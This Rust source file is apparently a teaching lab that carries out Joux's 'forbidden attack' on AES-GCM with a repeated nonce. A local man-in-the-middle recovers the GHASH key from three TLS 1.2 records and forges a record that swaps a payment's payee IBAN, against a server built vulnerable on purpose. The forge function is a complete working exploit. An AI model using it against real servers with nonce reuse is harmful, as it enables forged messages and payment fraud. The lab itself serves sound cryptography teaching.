//! Lab 3: AES-GCM with a repeated nonce — Joux's "forbidden attack"
//! (2006), found in TLS servers by Böck, Zauner, Devlin, Somorovsky and
//! Jovanovic ("Nonce-Disrespecting Adversaries", WOOT 2016).
//!
//! A padlock-tls server with the switch `RepeatGcmNonce` seals every TLS
//! 1.2 record with explicit nonce 0 (crates/tls/src/record/protection.rs). A man in
//! the middle on 127.0.0.1 takes three of its records, finds the GHASH key
//! `H` as a root of a polynomial over GF(2^128) ([`crate::gf128`]), and
//! replaces the last record with one of its own that the client accepts.

use std::io::{self, Write as _};
use std::net::TcpStream;
use std::sync::{Arc, Mutex};

use padlock_tls::lab::{Switch, Switches};
use padlock_tls::suites::ECDHE_RSA_AES_128_GCM_SHA256;
use padlock_tls::trace::{Direction as KeyDirection, Event, KeyStage, Side, TraceSink};
use padlock_tls::{ProtocolVersion, ServerConfig, Stream};

use crate::gf128::{self, Gf, Poly};
use crate::net::{self, APPLICATION_DATA, Direction, HANDSHAKE, Proxy, RawRecord, Server};
use crate::report::{Report, Role};
use crate::{Outcome, Params, Scale, common};

/// The page: its body is what the attacker rewrites.
const BODY: &str = "Pay 100.00 EUR to Alice, IBAN DE89 3704 0044 0532 0130 00.\n";
/// The attacker's body, as long as the real one (the Content-Length is fixed).
const FORGED: &str = "Pay 100.00 EUR to Mallory, IBAN GB33 BUKB 2020 1555 55555.\n";
const _: () = assert!(BODY.len() == FORGED.len());

/// The headers the server sends first, in their own record (the attacker
/// knows the server's format: this is its known plaintext).
fn headers(body_len: usize) -> String {
    format!(
        "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {body_len}\r\nConnection: close\r\n\r\n"
    )
}

/// The server's app: headers and body in two records, then close.
fn two_records(stream: &mut Stream<TcpStream>) -> io::Result<()> {
    net::read_request(stream)?;
    stream.write_all(headers(BODY.len()).as_bytes())?;
    stream.write_all(BODY.as_bytes())?;
    stream.close().map_err(io::Error::other)
}

/// A TLS 1.2 AES-GCM record as the attacker reads it (RFC 5288 §3).
#[derive(Clone, Debug)]
pub struct SealedRecord {
    /// The additional data: seq(8) || type || version || plaintext length.
    pub aad: [u8; 13],
    /// The explicit nonce sent before the ciphertext.
    pub explicit_nonce: [u8; 8],
    /// The ciphertext.
    pub ciphertext: Vec<u8>,
    /// The tag.
    pub tag: [u8; 16],
}

impl SealedRecord {
    /// The record number `seq` of a direction, from its wire form.
    pub fn from_wire(seq: u64, typ: u8, fragment: &[u8]) -> Option<SealedRecord> {
        let n = fragment.len().checked_sub(8 + 16)?;
        let mut aad = [0u8; 13];
        aad[..8].copy_from_slice(&seq.to_be_bytes());
        aad[8] = typ;
        aad[9..11].copy_from_slice(&[3, 3]);
        aad[11..].copy_from_slice(&(n as u16).to_be_bytes());
        Some(SealedRecord {
            aad,
            explicit_nonce: fragment[..8].try_into().ok()?,
            ciphertext: fragment[8..8 + n].to_vec(),
            tag: fragment[8 + n..].try_into().ok()?,
        })
    }

    /// The fragment: explicit nonce, ciphertext, tag.
    pub fn fragment(&self) -> Vec<u8> {
        [self.explicit_nonce.as_slice(), &self.ciphertext, &self.tag].concat()
    }

    fn ghash(&self) -> Poly {
        gf128::ghash_poly(&self.aad, &self.ciphertext)
    }
}

/// What the forbidden attack found.
#[derive(Clone, Debug)]
pub struct Forgery {
    /// The roots of the first equation: the candidates for `H`.
    pub candidates: Vec<Gf>,
    /// The degree of that equation.
    pub degree: usize,
    /// The `H` that also fits the third record, if one does.
    pub h: Option<Gf>,
    /// The forged record, in place of the third.
    pub record: SealedRecord,
}

/// Joux's forbidden attack on three records sealed under one key: with the
/// same nonce, `T_i = GHASH_H(A_i, C_i) + E_K(J0)`, so `T_1 + T_2 =
/// GHASH_H(A_1, C_1) + GHASH_H(A_2, C_2)` is a polynomial equation in `H`
/// whose roots are the candidates; the one that also satisfies the third
/// record is `H`, and `E_K(J0) = T_1 + GHASH_H(A_1, C_1)`. Then the
/// keystream of record 2 (whose plaintext `known` the attacker guessed)
/// encrypts `forged` in place of record 3, and `H` and the mask give its tag.
pub fn forge(records: &[SealedRecord; 3], known: &[u8], forged: &[u8], seed: u64) -> Forgery {
    let [first, second, third] = records;
    let tags = gf128::from_block(&first.tag) ^ gf128::from_block(&second.tag);
    let equation = first.ghash().add(&second.ghash()).add(&Poly::new(vec![tags]));
    let mut rng = net::rng(seed, 30);
    let mut random = || {
        u128::from(rand_core::Rng::next_u64(&mut rng)) << 64 | u128::from(rand_core::Rng::next_u64(&mut rng))
    };
    let candidates = gf128::roots(&equation, &mut random);
    let mask_for = |h: Gf| gf128::from_block(&first.tag) ^ first.ghash().eval(h);
    let fits_third = |h: &Gf| third.ghash().eval(*h) ^ mask_for(*h) == gf128::from_block(&third.tag);
    let h = candidates.iter().copied().find(fits_third);
    // Without a consistent H the attacker can only guess: the first candidate.
    let guess = h.or(candidates.first().copied()).unwrap_or(0);
    let keystream: Vec<u8> = second.ciphertext.iter().zip(known).map(|(c, p)| c ^ p).collect();
    let ciphertext: Vec<u8> = forged.iter().zip(&keystream).map(|(p, k)| p ^ k).collect();
    let mut aad = third.aad;
    aad[11..].copy_from_slice(&(ciphertext.len() as u16).to_be_bytes());
    let tag = gf128::ghash_poly(&aad, &ciphertext).eval(guess) ^ mask_for(guess);
    let record =
        SealedRecord { aad, explicit_nonce: third.explicit_nonce, ciphertext, tag: gf128::to_block(tag) };
    Forgery { candidates, degree: equation.degree().unwrap_or(0), h, record }
}

/// What the man in the middle saw and did, shared with the lab.
#[derive(Default)]
struct Mitm {
    /// Server-to-client encrypted records so far (the Finished is number 0).
    records: Vec<SealedRecord>,
    forgery: Option<Forgery>,
}

pub(crate) fn run(params: &Params, report: &mut Report<'_>) -> Result<Outcome, String> {
    let seed = params.seed;
    report.heading("The setting");
    report.explain(format!(
        "A TLS 1.2 server with ECDHE and AES-128-GCM: forward secret, authenticated encryption, the \
         configuration of 2016's best practice. GCM's nonce is 4 bytes of salt from the key block and an \
         8-byte explicit nonce that the sender chooses and sends with each record (RFC 5288 §3); it must \
         never repeat under one key. {} A client fetches a payment instruction; the attacker sits in the \
         middle.",
        if params.fixed {
            "This is the real server (--fixed): the explicit nonce is the record's sequence number, 0, 1, 2, ..."
        } else {
            "Its switch RepeatGcmNonce is on (crates/tls/src/record/protection.rs): every record gets explicit nonce 0, as \
             the servers Böck et al. found in 2016 did."
        }
    ));
    let bits = match params.scale {
        Scale::Lab => 2048,
        Scale::Test => 1024,
    };
    let pki = common::pki(bits, &["localhost"], seed)?;
    let server_events: Arc<Mutex<Vec<Event>>> = Arc::default();
    let mut config = ServerConfig::new(vec![pki.leaf.clone()], pki.key.clone());
    config.versions = vec![ProtocolVersion::Tls12];
    config.cipher_suites = vec![ECDHE_RSA_AES_128_GCM_SHA256];
    config.trace = Some(collect(&server_events));
    if !params.fixed {
        config.switches = Switches::NONE.turn_on(Switch::RepeatGcmNonce);
    }
    let server = Server::start(config, seed, 1, two_records)?;
    let mitm: Arc<Mutex<Mitm>> = Arc::default();
    let proxy = Proxy::start(server.address(), tamper(mitm.clone(), seed))?;
    let request = b"GET /payment HTTP/1.1\r\nHost: localhost\r\n\r\n";
    let fetched = common::fetch(proxy.address(), common::client_config("localhost", &pki.ca), seed, request);
    proxy.finish();
    let mitm = mitm.lock().map_err(|_| "the man in the middle panicked")?;
    tell(report, &mitm, &server_events, &fetched.response)
}

/// Collects a side's events.
fn collect(events: &Arc<Mutex<Vec<Event>>>) -> TraceSink {
    let events = events.clone();
    Arc::new(move |_: Side, event: &Event| {
        if let Ok(mut list) = events.lock() {
            list.push(event.clone());
        }
    })
}

/// The man in the middle: passes everything, keeps the server's encrypted
/// records, and replaces the third with a forgery.
fn tamper(mitm: Arc<Mutex<Mitm>>, seed: u64) -> net::Tamper {
    let mut encrypted = false;
    Box::new(move |direction, record: RawRecord| {
        if direction != Direction::ToClient {
            return vec![record];
        }
        if record.typ == net::CHANGE_CIPHER_SPEC {
            encrypted = true;
            return vec![record];
        }
        let Ok(mut mitm) = mitm.lock() else { return vec![record] };
        let seq = mitm.records.len() as u64;
        if !encrypted || !matches!(record.typ, HANDSHAKE | APPLICATION_DATA) || seq > 2 {
            return vec![record];
        }
        let Some(sealed) = SealedRecord::from_wire(seq, record.typ, &record.body) else {
            return vec![record];
        };
        mitm.records.push(sealed);
        if seq < 2 {
            return vec![record];
        }
        let records = [mitm.records[0].clone(), mitm.records[1].clone(), mitm.records[2].clone()];
        let known = headers(records[2].ciphertext.len());
        let forgery = forge(&records, known.as_bytes(), FORGED.as_bytes(), seed);
        let forged = RawRecord::new(APPLICATION_DATA, &forgery.record.fragment());
        mitm.forgery = Some(forgery);
        vec![forged]
    })
}

/// The story, from what the man in the middle kept.
fn tell(
    report: &mut Report<'_>,
    mitm: &Mitm,
    server_events: &Mutex<Vec<Event>>,
    response: &Result<Vec<u8>, String>,
) -> Result<Outcome, String> {
    report.heading("What the attacker sees");
    for (i, record) in mitm.records.iter().enumerate() {
        let what = ["the server's Finished", "the response headers", "the response body"][i.min(2)];
        report.wire(
            Role::Server,
            Role::Client,
            format!("record {i}, {what}: explicit nonce {}", padlock_tls::trace::hex(&record.explicit_nonce)),
            &record.fragment(),
        );
    }
    let forgery = mitm.forgery.as_ref().ok_or("the attacker did not see three encrypted records")?;
    let repeated = mitm.records.windows(2).all(|w| w[0].explicit_nonce == w[1].explicit_nonce);
    report.leak(if repeated {
        "the same nonce on every record: the same keystream, and the same mask E_K(J0) on every tag"
    } else {
        "nothing obvious: every record has its own nonce (the attacker tries anyway)"
    });
    report.heading("The attack");
    report.explain(
        "A GCM tag is T = GHASH_H(A, C) + E_K(J0), where GHASH_H is a polynomial in the secret H = E_K(0) with \
         the blocks of the additional data and ciphertext as coefficients (SP 800-38D §6.4), and J0 holds the \
         nonce. Under one nonce E_K(J0) is the same for every record, so adding two tags cancels it: T_0 + T_1 \
         = GHASH_H(A_0, C_0) + GHASH_H(A_1, C_1), a polynomial equation in H with known coefficients. Its roots \
         in GF(2^128) — gcd with X^(2^128) - X, then Cantor-Zassenhaus splitting — are the candidates; the one \
         that fits record 2 too is H (Joux 2006).",
    );
    report.value(
        "equation",
        format!("degree {} in H, {} root(s) in GF(2^128)", forgery.degree, forgery.candidates.len()),
    );
    let true_h = true_ghash_key(server_events);
    match (forgery.h, true_h) {
        (Some(h), Some(truth)) => report.recovered("GHASH key H", &gf128::to_block(h), &truth),
        (None, _) => report.value("H", "no candidate fits the third record"),
        (Some(h), None) => report.value("H", padlock_tls::trace::hex(&gf128::to_block(h))),
    }
    report.explain(if forgery.h.is_some() {
        "With H and the mask, the attacker can tag anything. It also has keystream: record 1's ciphertext XOR \
         the headers it knows the server sends. So it writes its own body under the same nonce, tags it, and \
         sends it in place of record 2."
    } else {
        "No candidate fits all three records: under different nonces the masks E_K(J0) differ and do not \
         cancel, so the equation says nothing about H, and record 1's keystream is not record 2's. The \
         attacker forges with its best guess anyway."
    });
    report.wire(Role::Attacker, Role::Client, "the forged record 2", &forgery.record.fragment());
    let succeeded = match response {
        Ok(page) => {
            let page = String::from_utf8_lossy(page);
            report.value("what the client read", crate::common::printable(page.as_bytes()));
            page.contains(FORGED)
        }
        Err(error) => {
            report.value("the client", format!("refused the connection: {error}"));
            false
        }
    };
    report.figure("records used", "3 (two for the equation, one to check)");
    report.figure("candidates for H", forgery.candidates.len().to_string());
    report.verdict(
        succeeded,
        if succeeded {
            "the client accepted a record the server never sent: GCM's authentication is gone"
        } else {
            "the forged record was refused"
        },
    );
    Ok(Outcome { attack_succeeded: succeeded, queries: 3, seconds: 0.0 })
}

/// `E_K(0)` for the server's application write key, from its trace.
fn true_ghash_key(events: &Mutex<Vec<Event>>) -> Option<[u8; 16]> {
    let events = events.lock().ok()?;
    let key = events.iter().find_map(|e| match e {
        Event::KeysInstalled {
            direction: KeyDirection::Write, stage: KeyStage::Application, key, ..
        } => Some(key.clone()),
        _ => None,
    })?;
    let aes = padlock_aes::Aes::new(&key).ok()?;
    let mut h = [0u8; 16];
    aes.encrypt_block(&mut h);
    Some(h)
}
